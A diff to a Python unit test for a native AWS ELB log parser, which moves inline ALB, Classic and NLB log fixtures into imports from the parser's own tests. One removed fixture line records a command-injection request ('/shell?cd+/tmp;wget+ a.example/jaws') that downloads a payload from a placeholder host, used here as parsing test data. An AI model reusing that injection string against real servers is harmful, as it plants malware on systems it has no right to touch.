@@ -23,6 +23,15 @@ from consumer.pool import IndexNaming, WorkerConfig, parse_in_worker
 from parsers.options import ParseOptions
 from parsers.rules import FilterRule
 from tests.unit.consumer.test_native_path import STREAM, assert_same, both, parsing, wire
+# The ELB parser's own test lines: the usual ALB line and lines this path leaves to Python.
+from tests.unit.parsers.test_elb_logs import (
+    ALB,
+    ALB_NO_PRIORITY,
+    ALB_SPACES,
+    ALB_TARGET_LISTS,
+    CLASSIC_HTTP,
+    NLB,
+)
 
 pytestmark = pytest.mark.skipif(not native_path.available(), reason="secstash_native is not installed")
 
@@ -31,27 +40,6 @@ GEOIP = SHARED / "reference" / "geoip"
 FIXTURES = SHARED / "fixtures" / "elastic-aws" / "elb_logs"
 needs_geoip = pytest.mark.skipif(not (GEOIP / "GeoLite2-City-Test.mmdb").is_file(), reason="no MaxMind test databases")
 
-ALB = ('http 2018-07-02T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188 192.168.131.39:2817 10.0.0.1:80 0.000 '
-       '0.001 0.000 200 200 34 366 "GET http://www.example.com:80/ HTTP/1.1" "curl/7.46.0" - - '
-       'arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067 '
-       '"Root=1-58337262-36d228ad5d99923122bbe354" "-" "-" 0 2018-07-02T22:22:48.364000Z "forward,redirect" "-" "-" '
-       '"10.0.0.1:80" "200" "-" "-"')
-ALB_SPACES = ('http 2022-05-12T06:41:29.051646Z app/admin/3011821a43ee0c5e 67.43.156.20:41542 - -1 -1 -1 301 - 233 390 '
-              '"GET http://127.0.0.1:80/shell?cd+/tmp;wget+ a.example/jaws HTTP/1.1" "Hello, world" - - - '
-              '"Root=1-627cac19-4c6df30820daa80e3fd72ced" "www.example.com" "arn:aws:acm:cert/1" -1 '
-              '2022-05-12T06:41:29.051000Z "redirect" "https://127.0.0.1:443/shell?cd+/tmp;wget+ a.example/jaws" "-" '
-              '"-" "-" "Acceptable" "SpaceInUri" TID_1234')
-ALB_TARGET_LISTS = ALB.replace('"forward,redirect" "-" "-" "10.0.0.1:80" "200" "-" "-"',
-                               '"forward" "-" "TargetConnectionError" "10.0.0.1:80 10.0.0.2:80" "- 502" '
-                               '"Ambiguous" "UndefinedContentLengthSemantics" TID_1 "www.example.com" "/" "-"')
-ALB_NO_PRIORITY = ('http 2018-07-02T22:23:00.186641Z app/my-lb/50dc6c495c0c9188 192.168.131.39:2817 - -1 -1 -1 400 - '
-                   '0 272 "- http://www.example.com:80- -" "-" - - - "-" "-" "-" - 2018-07-02T22:22:48.364000Z "-" "-" '
-                   '"-" "-" "-" "-" "-" TID_1 "-" "-" "-"')
-CLASSIC = ('2015-05-13T23:39:43.945958Z my-loadbalancer 192.168.131.39:2817 10.0.0.1:80 0.000073 0.001048 '
-           '0.000057 200 200 0 29 "GET http://www.example.com:80/ HTTP/1.1" "curl/7.38.0" - -')
-NLB = ('tls 2.0 2018-12-20T02:59:40 net/my-network-loadbalancer/c6e77e28c25b2234 g3d4b5e8bb8464cd '
-       '192.168.131.39:2817 10.0.0.1:80 5 2 98 246 - arn:aws:acm:us-east-2:671290407336:certificate/2a108f19 - '
-       'ECDHE-RSA-AES128-SHA tlsv12 - my-nlb.elb.us-east-2.amazonaws.com - - - 2018-12-20T02:59:30')
 S3ACCESS = ('79a59df900b949e55d96a1e698fbacedfd6e09d98eacf8f8d5218e7cd47ef2be awsexamplebucket1 '
             '[06/Feb/2019:00:00:38 +0000] 192.0.2.3 79a59df900b949e55d96a1e698fbacedfd6e09d98eacf8f8d5218e7cd47ef2be '
             '3E57427F3EXAMPLE REST.GET.VERSIONING - "GET /awsexamplebucket1?versioning HTTP/1.1" 200 - 113 - 7 - "-" '
@@ -175,7 +163,7 @@ def test_elastic_test_cases_and_the_parsers_lines_packed_into_records(geoip: boo
     records.append(wire(lines_record(covered * 3), 90))
     # Not covered: a `-` priority (read by the Classic pattern), Classic and NLB lines, a url with a space
     # (`uri_parts` reads it as java.net.URL does).
-    refused = [ALB_NO_PRIORITY, CLASSIC, NLB, ALB_SPACES]
+    refused = [ALB_NO_PRIORITY, CLASSIC_HTTP, NLB, ALB_SPACES]
     records += [wire(lines_record([text]), 100 + n) for n, text in enumerate(refused)]
     python, native = both(records, parsing(), ParseOptions(geoip_dir=str(GEOIP) if geoip else None,
                                                            keep_original=True))
@@ -226,7 +214,7 @@ def test_line_endings_and_blank_lines_number_events_as_python_does(ending: str) 
 def test_records_it_does_not_cover_take_the_python_path(case: str) -> None:
     data, options, arrival, stream_parsing = lines_record([ALB, ALB]), ParseOptions(), 1_793_491_200_000, parsing()
     if case == "classic":  # a record mixing an ALB line with another goes to Python whole
-        data = lines_record([ALB, CLASSIC])
+        data = lines_record([ALB, CLASSIC_HTTP])
     elif case == "nlb":
         data = lines_record([ALB, NLB])
     elif case == "s3access":
